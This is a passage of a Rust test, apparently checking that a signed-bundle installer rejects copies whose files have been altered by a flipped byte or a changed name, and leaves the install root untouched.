    for member in ["bundle.json", "SHA256SUMS", "install.sh", "roles/cron.j2", package.as_str()] {
        let mut crafted = c.clone();
        let mut data = crafted.get(member).to_vec();
        let last = data.len() - 1;
        data[last] ^= if member == "bundle.json" { 0 } else { 1 };
        if member == "bundle.json" {
            crafted.index(|v| v["name"] = "hellp".into());
        } else if member == "SHA256SUMS" {
            crafted.set(member, &data);
        } else {
            crafted.replace_consistently(member, &data);
        }
        let (ok, err) = install(&crafted.bytes(), Some(&sig));
        assert!(!ok && err.contains("does not match"), "{member}: {err}");
        assert_eq!(tree_hash(&root), before, "{member}: the root changed");
    }
    // The good bundle with its signature installs.
    let (ok, err) = install(&good_bytes, Some(&sig));
    assert!(ok, "{err}");
    assert_ne!(tree_hash(&root), before);
}
